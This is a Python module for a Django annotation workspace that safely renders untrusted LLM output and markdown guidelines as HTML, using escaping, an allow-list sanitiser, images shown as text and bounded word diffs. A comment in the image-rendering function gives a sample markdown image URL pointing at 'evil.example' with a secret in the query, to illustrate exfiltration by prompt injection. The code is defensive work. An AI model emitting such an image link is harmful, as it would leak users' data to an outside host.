"""Turning untrusted text into HTML that can never execute: the only way workspace pages render it.

Everything an annotator reads (prompts, responses, retrieved documents, flagged spans) comes from
LLM applications and their users, and guidelines are markdown written by people; Label Studio
shipped five XSS advisories from rendering task data. So text is either escaped (`render_plain`,
`highlight_spans`, `render_word_diff`) or parsed as markdown with raw HTML turned off and the result
passed through an allow-list sanitiser (`render_markdown`). Templates show untrusted text only
through these functions and mark nothing else safe.
"""

from __future__ import annotations

import difflib
import hashlib
import re
from collections.abc import Callable, Mapping, Sequence
from typing import Any, Literal, Protocol

import nh3
from django.core.cache import cache
from django.utils.html import escape
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

__all__ = [
    "DiffOp",
    "guideline_html",
    "highlight_spans",
    "render_markdown",
    "render_plain",
    "render_word_diff",
    "word_diff",
]

DiffOp = Literal["equal", "insert", "delete"]
_RenderRule = Callable[[RendererHTML, Sequence[Token], int, OptionsDict, EnvType], str]

_ALLOWED_TAGS = {
    *("p", "br", "hr", "em", "strong", "del", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h1", "h2", "h3", "h4", "h5", "h6"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
# `start` keeps "3. ..." numbered as 3 in guidelines that continue a list; it is filtered to digits.
_ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "code": {"class"}, "ol": {"start"}}
_CODE_CLASS = re.compile(r"language-[A-Za-z0-9_+#.-]{1,40}")
_DIGITS = re.compile(r"\d{1,6}")


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    if tag == "code" and attribute == "class":
        classes = [name for name in value.split() if _CODE_CLASS.fullmatch(name)]
        return " ".join(classes) or None
    if tag == "ol" and attribute == "start":
        return value if _DIGITS.fullmatch(value) else None
    return value


# The final gate: whatever markdown-it produced, only these tags, attributes and URL schemes
# reach the page. Relative URLs are dropped too: in model output they point at our own origin
# (a same-site GET an annotator did not mean to make) and annotators gain nothing from them.
_CLEANER = nh3.Cleaner(
    tags=_ALLOWED_TAGS,
    clean_content_tags={"script", "style"},
    attributes=_ALLOWED_ATTRIBUTES,
    attribute_filter=_attribute_filter,
    strip_comments=True,
    link_rel="noopener noreferrer nofollow",
    url_schemes={"http", "https", "mailto"},
    url_relative="deny",
)


def _render_image_as_text(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    # An <img> is fetched the moment the page renders, without a click: a model (or a prompt
    # injection) that writes ![x](https://evil.example/?q=<secret>) would exfiltrate whatever it
    # puts in the URL. So the image becomes text, and its URL is not even a link: the annotator
    # sees where it pointed and can copy it deliberately.
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env).strip()
    src = str(token.attrGet("src") or "")
    label = f"[image: {alt}]" if alt else "[image]"
    return escapeHtml(f"{label} {src}".rstrip())


def _render_tag(tag: str) -> _RenderRule:
    def render(
        self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return tag

    return render


def _build_markdown() -> MarkdownIt:
    # html=False: raw HTML in the source is shown as text, never passed through. linkify stays
    # off: only links the author wrote explicitly are links.
    md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    md.add_render_rule("image", _render_image_as_text)
    # markdown-it writes strikethrough as <s>; <del> is the tag in our allow-list.
    md.add_render_rule("s_open", _render_tag("<del>"))
    md.add_render_rule("s_close", _render_tag("</del>"))
    return md


_MARKDOWN = _build_markdown()


def render_markdown(text: str) -> SafeString:
    """Markdown (CommonMark, tables, strikethrough) as sanitised HTML; images are shown as text."""
    return mark_safe(_CLEANER.clean(_MARKDOWN.render(text or "")))  # noqa: S308 - sanitised above


class _GuidelineVersion(Protocol):
    pk: Any
    version: int
    text: str


# Bump when render_markdown's output changes (rules, allow-list), so no page shows HTML cached
# under the old rules. Versions are immutable, so nothing else ever invalidates an entry.
_GUIDELINE_RENDERING = 1
_GUIDELINE_CACHE_SECONDS = 7 * 24 * 3600


def guideline_html(guideline: _GuidelineVersion) -> SafeString:
    """A guideline version rendered by `render_markdown`, from the cache after its first render.

    The key names the guideline's id and version and a digest of its text: a database restored
    or recreated under the same cache (ids start again at 1) can never be shown another text.
    """
    digest = hashlib.sha256(guideline.text.encode("utf-8", "surrogatepass")).hexdigest()[:32]
    key = f"guideline-html:{_GUIDELINE_RENDERING}:{guideline.pk}:{guideline.version}:{digest}"
    cached = cache.get(key)
    if isinstance(cached, str):
        return mark_safe(cached)  # noqa: S308 - stored from render_markdown below
    html = render_markdown(guideline.text)
    cache.set(key, str(html), _GUIDELINE_CACHE_SECONDS)
    return html


_LINE_BREAK = re.compile(r"\r\n|\r|\n")


def _escape_with_breaks(text: str) -> str:
    return _LINE_BREAK.sub("<br>", str(escape(text)))


def render_plain(text: str) -> SafeString:
    """Text escaped for HTML, its line breaks kept as <br>."""
    return mark_safe(_escape_with_breaks(text or ""))  # noqa: S308 - everything is escaped


_KIND_JUNK = re.compile(r"[^a-z_]")


def _span_kind(value: object) -> str:
    return _KIND_JUNK.sub("", str(value).lower())[:40] or "span"


def _span_offset(value: object) -> int | None:
    # bool is an int subclass; `True` as an offset is a bug upstream, not position 1.
    return value if isinstance(value, int) and not isinstance(value, bool) else None


def highlight_spans(text: str, spans: Sequence[Mapping[str, Any]]) -> SafeString:
    """Escaped text with each span wrapped in <mark class="span-KIND">; line breaks kept.

    Offsets are Python string indices into `text`. Spans are clipped to the text; malformed spans,
    empty ones and any span overlapping one that starts earlier are skipped.
    """
    text = text or ""
    cleaned: list[tuple[int, int, str]] = []
    for span in spans:
        if not isinstance(span, Mapping):
            continue
        start, end = _span_offset(span.get("start")), _span_offset(span.get("end"))
        if start is None or end is None:
            continue
        start, end = max(start, 0), min(end, len(text))
        if start < end:
            cleaned.append((start, end, _span_kind(span.get("kind", ""))))
    cleaned.sort(key=lambda item: (item[0], -item[1]))

    parts: list[str] = []
    position = 0
    for start, end, kind in cleaned:
        if start < position:
            continue
        parts.append(_escape_with_breaks(text[position:start]))
        parts.append(
            f'<mark class="span-{kind}" title="{kind}">{_escape_with_breaks(text[start:end])}</mark>'
        )
        position = end
    parts.append(_escape_with_breaks(text[position:]))
    return mark_safe("".join(parts))  # noqa: S308 - text escaped, kinds restricted to [a-z_]


# Words, runs of whitespace and single punctuation marks: the diff shows "fast," -> "quick," as one
# changed word, and joining the tokens gives back the text exactly.
_TOKEN = re.compile(r"\w+|\s+|[^\w\s]")

# difflib is quadratic or worse: a model stuck repeating one sentence is its worst case (1,000
# tokens a side took 2.5 s exact). These bounds keep any diff under about half a second of CPU:
# exact alignment up to _EXACT_PAIRS token pairs; difflib's autojunk heuristic (coarser on
# low-vocabulary text, fine on prose) up to _HEURISTIC_TOKENS a side; beyond that the changed
# region is aligned line by line first, and a region still too big is shown as replaced whole.
_EXACT_PAIRS = 300_000
_HEURISTIC_TOKENS = 5_000
_MAX_LINES = 5_000

_Chunk = tuple[DiffOp, Sequence[str]]


def _common_prefix(a: Sequence[str], b: Sequence[str]) -> int:
    size = 0
    for x, y in zip(a, b, strict=False):
        if x != y:
            break
        size += 1
    return size


def _diff_words(a: Sequence[str], b: Sequence[str]) -> list[_Chunk]:
    if not a or not b:
        return [("delete", a), ("insert", b)]
    if len(a) * len(b) <= _EXACT_PAIRS:
        autojunk = False  # autojunk would call "the" noise in a long text and misalign it
    elif max(len(a), len(b)) <= _HEURISTIC_TOKENS:
        autojunk = True
    else:
        return [("delete", a), ("insert", b)]
    chunks: list[_Chunk] = []
    matcher = difflib.SequenceMatcher(None, a, b, autojunk=autojunk)
    for tag, i1, i2, j1, j2 in matcher.get_opcodes():
        if tag == "equal":
            chunks.append(("equal", a[i1:i2]))
        else:
            chunks += [("delete", a[i1:i2]), ("insert", b[j1:j2])]
    return chunks


def _lines(tokens: Sequence[str]) -> list[tuple[str, ...]]:
    lines: list[tuple[str, ...]] = []
    start = 0
    for index, token in enumerate(tokens):
        if "\n" in token or "\r" in token:
            lines.append(tuple(tokens[start : index + 1]))
            start = index + 1
    if start < len(tokens):
        lines.append(tuple(tokens[start:]))
    return lines


def _diff_tokens(a: Sequence[str], b: Sequence[str]) -> list[_Chunk]:
    if len(a) * len(b) <= _EXACT_PAIRS or max(len(a), len(b)) <= _HEURISTIC_TOKENS:
        return _diff_words(a, b)
    # A long text (a guideline): align its lines, then diff words inside the lines that changed.
    a_lines, b_lines = _lines(a), _lines(b)
    if max(len(a_lines), len(b_lines)) > _MAX_LINES:
        return [("delete", a), ("insert", b)]
    chunks: list[_Chunk] = []
    matcher = difflib.SequenceMatcher(None, a_lines, b_lines)
    for tag, i1, i2, j1, j2 in matcher.get_opcodes():
        old = [token for line in a_lines[i1:i2] for token in line]
        if tag == "equal":
            chunks.append(("equal", old))
        else:
            chunks += _diff_words(old, [token for line in b_lines[j1:j2] for token in line])
    return chunks


def word_diff(old: str, new: str) -> list[tuple[DiffOp, str]]:
    """Word-level diff: segments that join to `old` (equal + delete) and to `new` (equal + insert)."""
    a, b = _TOKEN.findall(old or ""), _TOKEN.findall(new or "")
    head = _common_prefix(a, b)
    tail = _common_prefix(a[head:][::-1], b[head:][::-1])
    chunks: list[_Chunk] = [
        ("equal", a[:head]),
        *_diff_tokens(a[head : len(a) - tail], b[head : len(b) - tail]),
        ("equal", a[len(a) - tail :]),
    ]
    segments: list[tuple[DiffOp, str]] = []
    for op, tokens in chunks:
        text = "".join(tokens)
        if not text:
            continue
        if segments and segments[-1][0] == op:
            segments[-1] = (op, segments[-1][1] + text)
        else:
            segments.append((op, text))
    return segments


def render_word_diff(old: str, new: str) -> SafeString:
    """The word diff as escaped HTML with <del> and <ins>; line breaks kept."""
    wrap = {"equal": "{}", "delete": "<del>{}</del>", "insert": "<ins>{}</ins>"}
    html = "".join(wrap[op].format(_escape_with_breaks(chunk)) for op, chunk in word_diff(old, new))
    return mark_safe(html)  # noqa: S308 - every chunk is escaped
